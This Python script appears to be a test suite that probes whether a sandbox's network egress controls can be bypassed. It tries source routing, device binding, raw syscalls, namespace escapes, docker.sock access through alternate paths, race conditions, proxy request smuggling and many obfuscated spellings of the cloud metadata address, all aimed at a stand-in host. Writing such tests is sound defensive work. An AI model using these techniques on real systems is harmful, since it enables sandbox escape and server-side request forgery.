# SPDX-License-Identifier: MIT
"""Other ways to a place than by its address; runs inside a session.

usage: bypass_ways.py CA_FILE WORKSPACE [open CLASS...]	(see attempts.py)
"""
import ctypes
import mmap
import os
import socket
import struct
import threading

from attempts import (EVIL, EVIL6, META, OPEN, PATIENCE, PROXY, WEB, WORKSPACE,
                      attempt, everything, hello, libc, system_call, talk,
                      via_proxy)

WEB6 = "2606:2800:220:1::1"
STREAM, DGRAM = socket.SOCK_STREAM, socket.SOCK_DGRAM
FOUR, SIX = socket.AF_INET, socket.AF_INET6


def packed(host):
    return socket.inet_pton(SIX if ":" in host else FOUR, host)


# --- source routes: to an allowed place by way of another -------------------

STRICT = bytes([137, 7, 4]) + packed(EVIL) + b"\0"
LOOSE = bytes([131, 7, 4]) + packed(EVIL) + b"\0"


def segments(final, first=EVIL6):
    """A segment routing header: the packet goes to `first` first."""
    return struct.pack("BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + packed(final) + \
        packed(first)


def mobile(final, first=EVIL6):
    return struct.pack("BBBBI", 0, 2, 2, 1, 0) + packed(first)


def sent(kind, family, to, level, option, value):
    def function():
        s = socket.socket(family, kind)
        s.settimeout(PATIENCE)
        try:
            s.setsockopt(level, option, value)
        except OSError:
            return None  # not given: nothing to use
        try:
            s.connect(to)
            s.send(b"x" * 30)
            # taken by the namespace's own socket, it ends without a word
            return "sent" if kind == DGRAM or s.recv(9) else None
        except TimeoutError:
            return "a connection was tried"
    return function


def plain(family, kind, to):
    """No option that matters."""
    return sent(kind, family, to, 1, 6, 1)


def told(family, to, level, kind, value):
    """The same, said with one message."""
    def function():
        s = socket.socket(family, DGRAM)
        s.sendmsg([b"x" * 30], [(level, kind, value)], 0, to)
        return "sent"
    return function


def sticky(kind, value):
    """IPV6_2292PKTOPTIONS: options as a buffer of control messages."""
    data = struct.pack("=QII", 16 + len(value), 41, kind) + value
    return data + b"\0" * (-len(data) % 8)


UDP = [] if "loopback" in OPEN else [("udp", DGRAM)]
for kind, what in UDP + [("tcp", STREAM)]:
    for host in ("127.0.0.1", WEB) if what == STREAM else ("127.0.0.1",):
        for name, route in ("loose", LOOSE), ("strict", STRICT):
            attempt(f"route/{name} {kind} to {host}",
                    sent(what, FOUR, (host, 80), 0, 4, route))
            attempt(f"route/{name} {kind} to mapped {host}",
                    sent(what, SIX, ("::ffff:" + host, 80), 0, 4, route))
    for host in ("::1", WEB6) if what == STREAM else ("::1",):
        for name, route in ("segments", segments(host)), ("mobile", mobile(host)):
            attempt(f"route/{name} {kind} to {host}",
                    sent(what, SIX, (host, 80), 41, 57, route))
            for old in 57, 5:
                attempt(f"route/sticky {name} {old} {kind} to {host}", sent(
                    what, SIX, (host, 80), 41, 6, sticky(old, route)))
if UDP:
    attempt("route/control loose", told(FOUR, ("127.0.0.1", 80), 0, 7, LOOSE))
    attempt("route/control mapped", told(SIX, ("::ffff:127.0.0.1", 80), 0, 7,
                                         LOOSE))
    for option in 57, 5, 55, 54, 59:
        for name, route in (("segments", segments("::1")),
                            ("mobile", mobile("::1"))):
            attempt(f"route/control {name} {option}",
                    told(SIX, ("::1", 80), 41, option, route))

for host in "0.0.0.1", "0.1.2.3", "0.255.255.255", "::ffff:0.1.2.3":
    for kind, what in UDP + [("tcp", STREAM)]:
        attempt(f"route/zero network {host} {kind}", plain(
            SIX if ":" in host else FOUR, what, (host, 80)))
if UDP:
    attempt("route/mark", told(FOUR, ("127.0.0.1", 80), 1, 36, b"\1\0\0\0"))
    label = packed("::1") + struct.pack(">IBBHHHI", 0x12345, 0, 1, 0xff, 60, 60,
                                        0)
    for route in segments("::1"), mobile("::1"):
        attempt("route/label", sent(DGRAM, SIX, ("::1", 80, 0x12345), 41, 32,
                                    label + sticky(57, route)))

# --- devices: what is for loopback, sent out --------------------------------

try:
    DEVICE = socket.if_nametoindex("wan0")
except OSError:
    DEVICE = 0  # a namespace of its own, or a container
BE = socket.htonl(DEVICE)
LINK_LOCAL = [socket.inet_ntop(SIX, bytes.fromhex(line.split()[0]))
              for line in open("/proc/net/if_inet6")
              if line.split()[-1] == "wan0"] if DEVICE else []


def bound(kind, address, to):
    def function():
        s = socket.socket(SIX, kind)
        s.settimeout(PATIENCE)
        s.bind((address, 0, 0, DEVICE))
        try:
            s.connect(to)
            s.send(b"x" * 30)
        except TimeoutError:
            return "a connection was tried"
        return "sent"
    return function


if DEVICE:
    for kind, what in UDP + [("tcp", STREAM)]:
        for family, host in ((FOUR, "127.0.0.1"), (SIX, "::1"),
                             (SIX, "::ffff:127.0.0.1")):
            for name, level, option, value in (
                    ("by name", 1, 25, b"wan0\0"), ("by number", 1, 62, DEVICE),
                    ("unicast", 0, 50, BE), ("unicast six", 41, 76, BE),
                    ("packet info", 41, 50, struct.pack("=16si", b"", DEVICE))):
                attempt(f"device/{name} {kind} to {host}",
                        sent(what, family, (host, 80), level, option, value))
        for address in LINK_LOCAL + (["ff02::1"] if what == DGRAM else []):
            attempt(f"device/bound to {address[:4]} {kind}",
                    bound(what, address, ("::1", 80)))
    if UDP:
        attempt("device/control", told(
            FOUR, ("127.0.0.1", 80), 0, 8, struct.pack("=i8x", DEVICE)))
        attempt("device/control on six", told(
            SIX, ("::ffff:127.0.0.1", 80), 0, 8, struct.pack("=i8x", DEVICE)))
        for option in 50, 2:
            attempt(f"device/control six {option}", told(
                SIX, ("::1", 80), 41, option, struct.pack("=16xi", DEVICE)))

# --- every family, type and protocol ----------------------------------------


def opened(*args):
    """libc's, so that nothing of Python changes an argument."""
    fd = system_call("socket", *(ctypes.c_ulong(a) for a in args))
    if fd >= 0:
        os.close(fd)
    return fd >= 0


def families():
    got = [(f, t) for f in range(64) for t in (1, 2, 3, 4, 5, 6, 10)
           if f not in (1, 2, 10, 16) and opened(f, t, 0)]
    return got or None


def protocols(family, kinds, fine):
    def function():
        return [(k, p) for k in kinds for p in range(300)
                if (k, p) not in fine and opened(family, k, p)] or None
    return function


INET = {(1, 0), (1, 6), (2, 0), (2, 17)}
attempt("every/family", families)
attempt("every/protocol of four", protocols(FOUR, (1, 2, 3, 4, 5, 6, 10), INET))
attempt("every/protocol of six", protocols(SIX, (1, 2, 3, 4, 5, 6, 10), INET))
attempt("every/protocol of netlink", protocols(16, (2, 3), {(2, 0), (3, 0)}))
attempt("every/pair", lambda: [f for f in range(64) if f != 1 and libc.socketpair(
    f, 1, 0, ctypes.create_string_buffer(8)) == 0] or None)
HIGH = 1 << 32
for name, args in {"family": (2 | HIGH, 3, 1), "type": (2, 3 | HIGH, 255),
                   "protocol": (2, 1, 262 | HIGH), "packet": (17 | HIGH, 3, 768),
                   "all": (17 | HIGH, 3 | HIGH, 768 | HIGH),
                   "netlink": (16, 3, 12 | HIGH), "sign": (2, 1, HIGH - 1)}.items():
    attempt("every/upper half: " + name, lambda: opened(*args) or None)


def upper(name, *args):
    """A call whose arguments have upper halves that the kernel ignores."""
    return system_call(name, *(ctypes.c_ulong(a) if isinstance(a, int) else a
                               for a in args))


AT = struct.pack("=HH4s8x", 2, socket.htons(80), packed(EVIL))


def upper_connect():
    s = socket.socket()
    return talk(s) if upper("connect", s.fileno() | HIGH, AT, 16 | HIGH) == 0 else None


def upper_fast_open():
    s = socket.socket()
    r = upper("sendto", s.fileno() | HIGH, b"x" * 9, 9, 0x20000000 | HIGH, AT,
              16 | HIGH)
    return "sent" if r > 0 else None


def upper_datagram():
    s = socket.socket(FOUR, DGRAM)
    r = upper("sendto", s.fileno() | HIGH, b"x" * 9, 9, 7 * HIGH, AT, 16 | HIGH)
    return "sent" if r > 0 else None


def upper_option(level, name, value, then):
    def function():
        s = socket.socket(FOUR, DGRAM if UDP else STREAM)
        s.settimeout(0.3)
        if upper("setsockopt", s.fileno(), level | HIGH, name | HIGH, value,
                 len(value)) < 0:
            return None
        s.connect(("127.0.0.1", 80))
        return then
    return function


attempt("every/upper half: connect", upper_connect)
attempt("every/upper half: fast open", upper_fast_open)
attempt("every/upper half: datagram", upper_datagram)
attempt("every/upper half: source route", upper_option(0, 4, LOOSE, "routed"))
if DEVICE:
    attempt("every/upper half: device", upper_option(1, 25, b"wan0\0", "bound"))
for protocol in b"smc", b"tls", b"espintcp", b"mptcp":
    def over():
        s = socket.socket()
        s.setsockopt(6, 31, protocol)
        return talk(s, (EVIL, 80))

    attempt("every/upper layer " + protocol.decode(), over)

# --- the kernel asks for us ---------------------------------------------------

DENIED = b"evil.test"
for name, args in {
        "resolver key": ("request_key", b"dns_resolver", DENIED, None, -3),
        "resolver key with options": ("request_key", b"dns_resolver",
                                      b"ipv4:evil.test", b"", -3),
        "key": ("add_key", b"user", b"x", b"y", 1, -3),
        "keyctl": ("keyctl", 0, -3, 0),
        "mount of nfs": ("mount", b"45.33.32.156:/", b"/mnt", b"nfs", 0,
                         b"addr=45.33.32.156"),
        "mount of cifs": ("mount", b"//45.33.32.156/x", b"/mnt", b"cifs", 0,
                          b"ip=45.33.32.156"),
        "mount of 9p": ("mount", b"45.33.32.156", b"/mnt", b"9p", 0,
                        b"trans=tcp"),
        "mount of sysfs": ("mount", b"x", b"/mnt", b"sysfs", 0, None),
        "fsopen": ("fsopen", b"nfs", 0), "bpf": ("bpf", 5, b"\0" * 128, 128),
        "clone of a network": ("clone", 0x50000011, 0, 0, 0, 0),
        "clone3 of a network": ("clone3", struct.pack(
            "=QQQQQQQQ", 0x50000000, 0, 0, 0, 17, 0, 0, 0), 64),
        "unshare": ("unshare", 0x40000000), "setns by a process": (
            "setns", system_call("pidfd_open", os.getpid(), 0),
            0x40000000)}.items():
    def asked():
        r = system_call(*args)
        if r == 0 and name.startswith("clone"):
            os._exit(0)
        return f"{name}: {r}" if r >= 0 else None

    attempt("kernel/" + name, asked)


def names_of_socket():
    """SIOCGSKNS: the network namespace of a socket."""
    fd = libc.ioctl(socket.socket().fileno(), 0x894c, 0)
    return "entered" if fd >= 0 and libc.setns(fd, 0x40000000) == 0 else None


attempt("kernel/namespace of a socket", names_of_socket)

# --- a unix socket of an engine, by other names -------------------------------

ENGINE = os.path.join(WORKSPACE, "docker.sock")


def engine(path, kind=STREAM):
    s = socket.socket(socket.AF_UNIX, kind)
    s.settimeout(PATIENCE)
    if kind == DGRAM:
        s.sendto(b"GET / HTTP/1.0\r\n\r\n", path)
        return "sent"
    s.connect(path)
    s.sendall(b"GET / HTTP/1.0\r\n\r\n")
    return s.recv(100)


def serve_engine():
    """Somebody who answers there; any may bind such a name."""
    l = socket.socket(socket.AF_UNIX)
    l.bind(ENGINE)
    l.listen(20)
    pid = os.fork()
    while pid == 0:
        c, _ = l.accept()
        if c.recv(100):
            c.sendall(b"engine")
        c.close()
    return pid


def symbolic():
    os.symlink(ENGINE, "harmless-link")
    return engine("harmless-link")


def by_directory():
    fd = os.open(WORKSPACE, os.O_PATH | os.O_DIRECTORY)
    return engine(f"/proc/self/fd/{fd}/docker.sock")


def by_itself():
    fd = os.open(ENGINE, os.O_PATH)
    return engine(f"/proc/self/fd/{fd}")


def linked():
    os.link(ENGINE, "hard")
    return engine("hard")


def moved():
    """Away, and back: then it was reached under the other name."""
    os.rename(ENGINE, "moved")
    try:
        return engine("moved")
    finally:
        os.rename("moved", ENGINE)


def directory_moved():
    os.mkdir("d")
    os.rename(ENGINE, "d/docker.sock")
    os.rename("d", "e")
    try:
        return engine("e/docker.sock")
    finally:
        os.rename("e/docker.sock", ENGINE)


server = serve_engine()
for name, function in {
        "as it is": lambda: engine(ENGINE), "relative": lambda: engine(
            "docker.sock"),
        "dots": lambda: engine("./x/../docker.sock"),
        "by its directory": by_directory, "by a descriptor of it": by_itself,
        "by the root": lambda: engine("/proc/self/root" + ENGINE),
        "by the working directory": lambda: engine("/proc/self/cwd/docker.sock"),
        "by a symbolic link": symbolic, "by a hard link": linked,
        "moved": moved, "in a moved directory": directory_moved}.items():
    attempt("engine/" + name, function)

os.kill(server, 9)
os.waitpid(server, 0)

# --- messages that change while they are judged -------------------------------


def changing(make, change, tries=60):
    """What a call did while another process writes to the shared memory."""
    shared = mmap.mmap(-1, 4096)
    base = ctypes.addressof(ctypes.c_char.from_buffer(shared))
    pid = os.fork()
    if pid == 0:
        while os.getppid() != 1:
            change(shared)
        os._exit(0)
    try:
        return next(filter(None, (make(base, shared) for _ in range(tries))),
                    None)
    finally:
        os.kill(pid, 9)
        os.waitpid(pid, 0)


def change_address(shared):
    shared[4:8] = packed(EVIL)
    shared[4:8] = packed("127.0.0.1")


def connect_shared(base, shared):
    shared[:16] = struct.pack("=HH4s8x", 2, socket.htons(80),
                              packed("127.0.0.1"))
    s = socket.socket()
    s.settimeout(0.3)
    if libc.connect(s.fileno(), ctypes.c_void_p(base), 16) == 0 and \
            s.getpeername()[0] == EVIL:
        return "connected"
    return None


def message(base, shared):
    """A header at 0, name at 128, vector at 192, control at 256."""
    shared[128:144] = struct.pack("=HH4s8x", 2, socket.htons(443),
                                  packed("127.0.0.1"))
    shared[192:208] = struct.pack("QQ", base + 512, 30)
    shared[256:280] = struct.pack("=QII", 24, 0, 1) + struct.pack("=q", 1)
    shared[:56] = struct.pack("QIxxxxQQQQixxxx", base + 128, 16, base + 192, 1,
                              base + 256, 24, 0)
    s = socket.socket(FOUR, DGRAM)
    libc.sendmsg(s.fileno(), ctypes.c_void_p(base), 0)


def change_name(shared):
    shared[132:136] = packed(EVIL)
    shared[132:136] = packed("127.0.0.1")


def change_control(shared):
    shared[268:272] = struct.pack("=I", 7)
    shared[272:280] = LOOSE
    shared[268:272] = struct.pack("=I", 1)


if UDP:  # the capture tells
    attempt("changing/address", lambda: changing(connect_shared, change_address))
    attempt("changing/name of a message", lambda: changing(message, change_name))
    attempt("changing/control of a message",
            lambda: changing(message, change_control))


def stub_port():
    """The port that answers lookups is nobody else's."""
    s = socket.socket(FOUR, DGRAM)
    s.connect(("8.8.8.8", 53))
    host, port = s.getpeername()
    if not host.startswith("127."):
        return None  # a namespace of its own: it is at every address
    for option in (2,), (15,), (2, 15):
        t = socket.socket(FOUR, DGRAM)
        for o in option:
            t.setsockopt(1, o, 1)
        try:
            t.bind((host, port))
            return f"bound {port}"
        except OSError:
            pass
    return None


if "names" not in OPEN:
    attempt("changing/port of the names", stub_port)

# --- more of the proxy ----------------------------------------------------------

ORIGIN = b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"
INNER = b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
TUNNEL = b"CONNECT good.test:%d HTTP/1.1\r\nHost: good.test:%d\r\n\r\n"
SECOND = b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n"


def reached(*parts):
    data = everything(*parts)
    return data if b"host=evil.test path" in data else None


for port in 80, 8080, 443:
    for name, parts in {"host": [ORIGIN], "absolute": [INNER],
                        "connect": [SECOND + ORIGIN], "socks": [
                            b"\5\1\0\5\1\0\3\x09evil.test\0\x50" + ORIGIN],
                        "hello": [hello(b"evil.test")],
                        "post first": [b"POST / HTTP/1.1\r\nHost: good.test\r\n"
                                       b"Content-Length: 0\r\n\r\n" + ORIGIN],
                        "in bytes": [bytes([b]) for b in ORIGIN]}.items():
        attempt(f"nested/{name} in a tunnel to {port}", lambda: reached(
            TUNNEL % (port, port), *parts))
for path in (b"/", b"/llm/evil.test/", b"/svc/evil.test/", b"/llm/../evil.test/",
             b"/svc/%2e%2e/", b"/svc/x@evil.test/", b"/http://evil.test/",
             b"//evil.test/", b"/\\evil.test/", b"/v1/messages", b"/.."):
    attempt("nested/api " + path.decode(), lambda: reached(
        b"GET " + path + b" HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
for scheme in ("https", "wss", "file", "gopher", "unix", "http+unix", "icap",
               "data", "urn", "cache_object", "socks5", "h2c", "ldap", "tftp"):
    for target in f"{scheme}://evil.test/", f"{scheme}:evil.test":
        attempt("nested/scheme " + target, lambda: reached(
            b"GET %s HTTP/1.1\r\nHost: evil.test\r\n\r\n" % target.encode()))
for method in ("TRACE", "TRACK", "DEBUG", "PROPFIND", "PURGE", "SOURCE", "CONNECT",
               "PATCH", "DELETE", "OPTIONS", "get", "G\0T", "A" * 300):
    attempt("nested/method " + ascii(method)[:20], lambda: reached(
        method.encode() + INNER[3:]))
for field in ("X-Forwarded-Host: evil.test", "X-Host: evil.test",
              "Forwarded: host=evil.test", "X-Original-URL: http://evil.test/",
              "X-Rewrite-URL: http://evil.test/", "Max-Forwards: 0",
              "Proxy-Connection: Upgrade", ":authority: evil.test",
              "Upgrade: TLS/1.0", "Upgrade: HTTP/2.0", "Via: 1.1 evil.test",
              "Proxy-Authorization: Basic ZXZpbDp0ZXN0", "Alt-Used: evil.test",
              "Connection: close, Host", "Connection: Content-Length"):
    attempt("nested/field " + field, lambda: reached(
        b"GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\n" +
        field.encode() + b"\r\n\r\n" + ORIGIN))
for host in ("[0000:0000:0000:0000:0000:ffff:a9fe:a9fe]", "[::FFFF:A9FE:A9FE]",
             "[::ffff:0251.0376.0251.0376]", "[::ffff:0xa9.254.169.254]",
             "[0:0:0:0:0:ffff:169.254.43518]", "[64:ff9b::169.254.169.254]",
             "[2001:0:4136:e378:8000:63bf:5601:5601]", "[::a9fe:a9fe]",
             "[fe80::5efe:169.254.169.254]", "[v1.fe80::a]", "[v6.::1]",
             "[2002:a9fe:a9fe::1]", "[64:ff9b:1:fffe::a9fe:a9fe]", "[::ffff:a9fe:a9fe%251]",
             "425.510.425.510", "7147006462", "0x1a9fea9fe", "0xa9.0xfe.0xa9.0xfe",
             "+169.254.169.254", "-1", "1e3", "169.254.169.254.", "169.254.169.254..",
             "0000000251.00376.000251.0376", "169.254.169.0376", "169..254.169.254",
             "169.254.169.254.0", "169.254.169", "169,254,169,254", "012.1.2.3",
             "10.258", "0x0a010203", "167838211", "169.254.169.254.nip.io",
             "a9fea9fe.nip.io", "localtest.me", "\u0967\u096c\u096f.254.169.254",
             "169\uff61254\uff61169\uff61254", "\u2488\u2489", "\u00b9\u2076\u2079.254.169.254"):
    raw = host.encode()
    attempt("spelled/http " + ascii(host), lambda: via_proxy(
        b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (raw, raw)))
    attempt("spelled/connect " + ascii(host), lambda: via_proxy(
        b"CONNECT %s:80 HTTP/1.1\r\nHost: %s:80\r\n\r\n" % (raw, raw)))
    bare = raw.strip(b"[]")
    attempt("spelled/socks " + ascii(host), lambda: (lambda data: data if
            data[2:4] == b"\5\0" else None)(everything(
                b"\5\1\0", b"\5\1\0\3" + bytes([len(bare)]) + bare + b"\0\x50")))
    if bare == raw:
        def looked_up():
            try:  # what getaddrinfo makes of it, by itself
                to = socket.getaddrinfo(host, 80, 0, STREAM)[0]
            except (OSError, UnicodeError):
                return None
            return talk(socket.socket(to[0]), to[4])

        attempt("spelled/own " + ascii(host), looked_up)


def own(port, data, name="good.test"):
    """By the address of a name that is allowed."""
    def function():
        s = socket.create_connection((name, port), PATIENCE)
        s.settimeout(PATIENCE)
        s.sendall(data)
        s.shutdown(socket.SHUT_WR)
        got = b""
        while part := s.recv(4096):
            got += part
        return got if b"host=evil.test path" in got or got[:2] == b"\x16\3" \
            else None
    return function


if "names" not in OPEN:
    for port in 80, 8080:
        for name, data in {"host": ORIGIN, "absolute": INNER, "after a good one":
                           ORIGIN.replace(b"evil", b"good") + ORIGIN,
                           "one zero": ORIGIN.replace(b"1.1", b"1.0")}.items():
            attempt(f"spelled/own {name} on {port}", own(port, data))
    attempt("spelled/own hello", own(443, hello(b"evil.test")))
    attempt("spelled/own hello without a name", own(443, hello(b"")))
    attempt("spelled/case of letters", lambda: socket.gethostbyname(
        "gOoD.TeSt") != WEB)

# --- what must work -------------------------------------------------------------


def works(name, ok):
    print("works/" + name, "ok" if ok else "FAILED")


works("proxy", b"host=good.test path=/w" in everything(
    b"GET http://good.test/w HTTP/1.1\r\nHost: good.test\r\n"
    b"Connection: close\r\n\r\n"))
if UDP:
    a = socket.socket(FOUR, DGRAM)
    a.bind(("127.0.0.1", 0))
    a.settimeout(PATIENCE)
    b = socket.socket(FOUR, DGRAM)
    b.sendmsg([b"near"], [(0, 8, struct.pack("=i4s4x", 1, packed("127.0.0.2")))],
              0, a.getsockname())
    works("packet info", a.recvfrom(9)[1][0] == "127.0.0.2")
    c = socket.socket(SIX, DGRAM)
    c.bind(("::1", 0))
    c.settimeout(PATIENCE)
    d = socket.socket(SIX, DGRAM)
    d.sendmsg([b"near"], [(41, 50, struct.pack("=16si", packed("::1"), 0)),
                          (41, 52, struct.pack("=i", 9)),
                          (41, 67, struct.pack("=i", 8))], 0, c.getsockname())
    works("packet info six", c.recvfrom(9)[1][0] == "::1")
